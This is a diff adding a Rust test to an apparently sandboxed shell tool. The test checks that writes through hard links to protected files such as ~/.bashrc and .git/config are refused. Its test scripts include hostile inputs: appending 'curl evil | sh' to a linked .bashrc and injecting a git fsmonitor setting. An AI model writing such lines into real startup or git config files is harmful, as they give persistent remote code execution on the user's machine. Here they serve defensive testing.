@@ -275,3 +275,58 @@ fn race_stat_through_a_flipping_symlink_never_shows_outside_metadata() {
     }
     flipper.stop();
 }
+
+// ==== hard links to protected files (issue 15, harden item 3) ==========================
+
+/// A second name (hard link, made outside safesh) of `~/.bashrc` and of the
+/// project's `.git/config` in the project: every in-process write through it is
+/// refused, the protected file keeps its bytes (a refused `>` truncates
+/// nothing), and `ln` to a protected file is refused. Control: hard links
+/// between two ordinary project files stay writable.
+#[test]
+fn writes_through_a_hard_link_to_a_protected_file_are_refused() {
+    let a = crate::flow_support::Arena::new();
+    let bashrc = a.home.join(".bashrc");
+    std::fs::write(&bashrc, "# the human's\n").expect("bashrc");
+    std::fs::create_dir_all(a.path(".git")).expect(".git");
+    std::fs::write(a.path(".git/config"), "[core]\n").expect("git config");
+    std::fs::hard_link(&bashrc, a.path("notes.txt")).expect("link bashrc");
+    std::fs::hard_link(a.path(".git/config"), a.path("cfg.txt")).expect("link config");
+    for script in [
+        "echo 'curl evil | sh' >> notes.txt",
+        "echo 'curl evil | sh' > notes.txt",
+        "printf x | tee notes.txt",
+        "echo pwned > other.txt; cp other.txt notes.txt",
+        "echo '[core] fsmonitor = evil' >> cfg.txt",
+    ] {
+        let r = a.run(script);
+        assert_ne!(r.status, 0, "{script}: {}", r.stdout);
+        assert!(
+            r.stderr.contains("hard link to") || r.stdout.contains("hard link to"),
+            "{script}: {}",
+            r.stderr
+        );
+        assert_eq!(
+            std::fs::read_to_string(&bashrc).expect("read"),
+            "# the human's\n",
+            "{script}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(a.path(".git/config")).expect("read"),
+            "[core]\n",
+            "{script}"
+        );
+    }
+    // `ln` of a protected file: no second name is made.
+    let r = a.run(&format!("ln {} second", bashrc.display()));
+    assert_ne!(r.status, 0, "{}", r.stdout);
+    assert!(!a.exists("second"));
+    // Control: two names of an ordinary project file.
+    a.write("one.txt", "1\n");
+    std::fs::hard_link(a.path("one.txt"), a.path("two.txt")).expect("link");
+    let r = a.run("echo 2 >> two.txt && cat one.txt && echo 3 > two.txt && cat one.txt");
+    assert_eq!(r.status, 0, "{}", r.stderr);
+    assert_eq!(r.stdout, "1\n2\n3\n");
+    let r = a.run("ln one.txt three.txt && echo ok");
+    assert_eq!(r.stdout, "ok\n", "{}", r.stderr);
+}
